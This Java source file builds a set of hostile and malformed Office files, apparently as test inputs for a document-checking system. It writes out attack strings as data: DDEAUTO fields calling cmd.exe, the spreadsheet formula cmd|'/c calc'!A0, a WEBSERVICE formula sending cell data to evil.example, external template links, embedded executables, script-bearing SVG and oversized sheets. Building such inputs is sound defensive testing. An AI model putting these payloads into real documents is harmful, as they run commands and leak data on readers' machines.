package org.gongkai.release.hostile;

import static org.gongkai.release.file.Made.docx;
import static org.gongkai.release.file.Made.latin;
import static org.gongkai.release.file.Made.pptx;
import static org.gongkai.release.file.Made.written;
import static org.gongkai.release.file.Made.xlsx;

import java.io.ByteArrayInputStream;
import java.util.Arrays;
import java.util.List;
import org.apache.poi.hssf.usermodel.HSSFWorkbook;
import org.apache.poi.poifs.filesystem.DirectoryEntry;
import org.apache.poi.poifs.filesystem.POIFSFileSystem;

/** Office files that fetch, start, carry or count what nobody asked for. */
final class HostileOffice {

    private HostileOffice() {}

    static void addTo(List<HostileFile> all) {
        relations(all);
        fields(all);
        carried(all);
        sheets(all);
        old(all);
    }

    private static void relations(List<HostileFile> all) {
        for (String type :
                List.of("attachedTemplate", "image", "oleObject", "frame", "aFChunk", "subDocument", "hyperlink")) {
            for (String target : List.of("http://evil.example/x", "file:///c:/x", "\\\\10.0.0.1\\share\\x")) {
                all.add(new HostileFile(
                        "rel.docx",
                        type + " at " + target,
                        docx(
                                "<w:p/>",
                                "word/_rels/document.xml.rels",
                                "<R><Relationship Type='r/" + type + "' TargetMode='External' Target='" + target
                                        + "'/></R>")));
            }
        }
    }

    private static void fields(List<HostileFile> all) {
        for (String field : List.of(
                "DDEAUTO c:\\\\x\\\\cmd.exe",
                "DDE Excel x",
                "INCLUDEPICTURE \"http://evil.example/p\"",
                "INCLUDETEXT \"\\\\\\\\evil\\\\x\"",
                "IMPORT x.gif",
                "MACROBUTTON Run",
                "LINK Excel.Sheet x")) {
            all.add(new HostileFile(
                    "field.docx",
                    "field " + field,
                    docx("<w:p><w:fldSimple w:instr='" + field.replace("\"", "&quot;") + "'/></w:p>")));
        }
    }

    private static void carried(List<HostileFile> all) {
        all.add(new HostileFile("a.docx", "packed object", docx("<w:p/>", "word/embeddings/oleObject1.bin", "x")));
        all.add(new HostileFile("b.docx", "packed workbook", docx("<w:p/>", "word/embeddings/a.xlsx", "PK")));
        all.add(new HostileFile("c.docx", "macros", docx("<w:p/>", "word/vbaProject.bin", "x")));
        all.add(new HostileFile("c.docm", "macros, and says so", docx("<w:p/>", "word/vbaProject.bin", "x")));
        all.add(new HostileFile("d.docx", "control", docx("<w:p/>", "word/activeX/activeX1.xml", "<x/>")));
        all.add(new HostileFile("e.docx", "page as a part", docx("<w:p/>", "word/afchunk.html", "<script/>")));
        all.add(new HostileFile("f.docx", "program as a part", docx("<w:p/>", "word/media/a.exe", "MZ")));
        all.add(new HostileFile(
                "g.docx", "drawing with a script as a part", docx("<w:p/>", "word/media/a.svg", "<svg onload='x'/>")));
        all.add(new HostileFile("h.docx", "unknown part", docx("<w:p/>", "word/media/a.dat", "x")));
        all.add(new HostileFile("i.docx", "picture that is none", docx("<w:p/>", "word/media/a.png", "not a picture")));
        all.add(new HostileFile("a.xlsx", "old macros", xlsx("", "xl/macrosheets/sheet1.xml", "<x/>")));
        all.add(new HostileFile(
                "a.pptx", "packed object on a slide", pptx("<s/>", "ppt/embeddings/oleObject1.bin", "x")));
    }

    private static void sheets(List<HostileFile> all) {
        String big = "<dimension ref='A1:XFD1048576'/><cols><col min='1' max='16384' hidden='1'/></cols><sheetData>"
                + "<row r='1048576' hidden='1'><c r='XFD1048576'><v>1</v></c></row></sheetData>";
        all.add(new HostileFile("big.xlsx", "sheet of all rows and columns", xlsx(big)));
        StringBuilder rows = new StringBuilder("<sheetData>");
        for (int i = 1; i <= 100_000; i++) {
            rows.append("<row r='")
                    .append(i)
                    .append("' hidden='1'><c t='s'><v>0</v></c><c><v>")
                    .append(i * 7919L)
                    .append("</v></c></row>");
        }
        all.add(new HostileFile(
                "rows.xlsx",
                "long text shown a hundred thousand times",
                xlsx(
                        rows + "</sheetData>",
                        "xl/sharedStrings.xml",
                        "<sst><si><t>" + "字".repeat(200_000) + "13812345678</t></si></sst>")));
        all.add(
                new HostileFile(
                        "refs.xlsx",
                        "numbers of texts that are not there",
                        xlsx(
                                "<sheetData><row hidden='1'><c t='s'><v>999999999999</v></c><c t='s'><v>-5</v></c></row></sheetData>")));
        all.add(new HostileFile(
                "power.xlsx",
                "number with an endless exponent",
                xlsx("<sheetData><row hidden='1'><c><v>1E999999999</v></c></row></sheetData>")));
        for (String formula : List.of(
                "cmd|'/c calc'!A0", "WEBSERVICE(\"http://evil.example/\"&amp;A1)", "[1]x!A1", "RTD(\"x\",,\"y\")")) {
            all.add(new HostileFile(
                    "f.xlsx",
                    "formula " + formula,
                    xlsx("<sheetData><row><c><f>" + formula + "</f><v>0</v></c></row></sheetData>")));
        }
        all.add(new HostileFile(
                "conn.xlsx",
                "connection to a database",
                xlsx("", "xl/connections.xml", "<c><connection name='x' connectionString='x'/></c>")));
        all.add(new HostileFile(
                "dde.xlsx",
                "link to a program",
                xlsx("", "xl/externalLinks/externalLink1.xml", "<e><ddeLink ddeService='cmd'/></e>")));
    }

    private static void old(List<HostileFile> all) {
        byte[] book = written(out -> {
            try (HSSFWorkbook workbook = new HSSFWorkbook()) {
                workbook.createSheet("表").createRow(0).createCell(0).setCellValue("数");
                workbook.write(out);
            }
        });
        all.add(new HostileFile("cut.xls", "old workbook cut off", Arrays.copyOf(book, book.length / 3)));
        byte[] loop = book.clone();
        Arrays.fill(loop, 512, 1024, (byte) 0);
        all.add(new HostileFile("loop.xls", "old workbook whose chain of sectors is a circle", loop));
        byte[] wrong = book.clone();
        for (int i = 600; i < wrong.length; i += 7) {
            wrong[i] ^= 0x3c;
        }
        all.add(new HostileFile("bits.xls", "old workbook with wrong bits", wrong));
        all.add(new HostileFile(
                "head.doc",
                "old text document of nothing but its head",
                latin("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1" + "\0".repeat(3000))));
        all.add(new HostileFile("fake.doc", "old text document without text", ole("WordDocument", "x", "y")));
        all.add(new HostileFile("macro.doc", "old text document with macros", ole("WordDocument", "Macros", "VBA")));
        all.add(new HostileFile("macro.xls", "old workbook with macros", ole("Workbook", "_VBA_PROJECT_CUR", "VBA")));
        all.add(new HostileFile(
                "pack.doc",
                "old text document with a packed program",
                ole("WordDocument", "ObjectPool", "\u0001Ole10Native")));
        all.add(new HostileFile("enc.docx", "encrypted package", ole("EncryptedPackage", "x", "y")));
    }

    private static byte[] ole(String main, String storage, String inner) {
        return written(out -> {
            try (POIFSFileSystem container = new POIFSFileSystem()) {
                container.createDocument(new ByteArrayInputStream(new byte[5000]), main);
                DirectoryEntry directory = container.getRoot().createDirectory(storage);
                directory.createDocument(inner, new ByteArrayInputStream(new byte[5000]));
                container.writeFilesystem(out);
            }
        });
    }
}
